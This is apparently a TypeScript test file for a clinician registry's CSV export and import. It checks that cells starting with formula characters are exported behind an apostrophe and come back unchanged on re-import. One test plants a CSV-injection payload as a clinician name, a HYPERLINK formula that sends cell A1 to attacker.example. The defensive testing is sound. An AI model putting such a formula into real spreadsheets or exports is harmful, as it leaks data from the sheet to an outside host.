// Spreadsheet formulas in the registry export (session 39's attack review, low): the workforce CSV was written
// without the formula apostrophe so that an import gives back exactly what was exported, and a clinician named
// `=HYPERLINK(...)` came out of GET /api/workforce/export as a live formula. Now a cell starting with = + - @, a tab or
// a CR is exported behind `'`, and the import takes exactly that one apostrophe away: export → import round-trips.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseCsv } from '../../src/core/csv.ts';
import { ClinicianRecord } from '../../src/core/index.ts';
import { CSV_COLUMNS, formulaCellBack, formulaSafeCell, readRegistryCsv, toCsv, toCsvLine } from '../../src/workforce/csv.ts';
import { authTestAppOn, createUserAndLogin } from '../support/auth.ts';

const risky = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', ',', '"', '(', '1'), maxLength: 12 });

test('a cell is formula-safe and comes back exactly (property)', () => {
  fc.assert(
    fc.property(risky, (s) => {
      const out = formulaSafeCell(s);
      assert.doesNotMatch(out, /^[=+\-@\t\r]/);
      assert.equal(formulaCellBack(out), s);
    }),
    { numRuns: 5000, examples: [['=1'], ["'=1"], ["''+x"], ["'abc"], ["'"], [''], ['-'], ['\t=x']] },
  );
});

test('a registry exported then imported gives back every name, with formulas as text (property)', async () => {
  const name = risky.filter((s) => s.trim() === s && s.length > 0);
  await fc.assert(
    fc.asyncProperty(fc.array(name, { minLength: 1, maxLength: 5 }), async (names) => {
      const rows = names.map((n, i) => ({ record: ClinicianRecord.parse({ id: `c${i}`, name: n, profession: 'nurse', status: 'mobilised', home: { lat: -45.5, lon: -3 } }), site: null }));
      const csv = toCsv(rows);
      for (const cells of parseCsv(csv)) for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a live formula in ${csv}`);
      const back = await readRegistryCsv(csv);
      assert.deepEqual(back.issues, []);
      assert.deepEqual(back.rows.map((r) => r.record), rows.map((r) => r.record));
    }),
    { numRuns: 300 },
  );
});

test('GET /api/workforce/export writes a formula as text, and imports back as it was', async () => {
  const t = await authTestAppOn('sqlite');
  const personnel = await createUserAndLogin(t, 'personnel');
  const evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
  const cells: Record<string, string> = { id: 'n1', name: evil, profession: 'nurse', languages: 'uk', status: 'mobilised', home_lat: '-45.5', home_lon: '-3' };
  const csv = [CSV_COLUMNS.join(','), toCsvLine(CSV_COLUMNS.map((c) => cells[c] ?? ''))].join('\n');
  const imp = await t.app.inject({ method: 'POST', url: '/api/workforce/import', headers: personnel.headers, payload: { csv } });
  assert.equal(imp.statusCode, 200, imp.body);
  assert.equal((imp.json() as { report: { stored: boolean } }).report.stored, true, imp.body);

  const exp = await t.app.inject({ method: 'GET', url: '/api/workforce/export', headers: personnel.headers });
  assert.equal(exp.statusCode, 200);
  const [header, row] = parseCsv(exp.body);
  assert.equal(row![header!.indexOf('name')], `'${evil}`);
  assert.equal(row![header!.indexOf('home_lat')], "'-45.5");

  const again = await t.app.inject({ method: 'POST', url: '/api/workforce/import', headers: personnel.headers, payload: { csv: exp.body } });
  assert.equal(again.statusCode, 200, again.body);
  assert.equal((again.json() as { report: { accepted: number } }).report.accepted, 0, 'the re-import changed a record');
  const list = await t.app.inject({ method: 'GET', url: '/api/workforce/clinicians', headers: personnel.headers });
  const c = (list.json() as { clinicians: { name: string; home?: { lat: number } }[] }).clinicians[0]!;
  assert.equal(c.name, evil);
  assert.equal(c.home?.lat, -45.5);
});
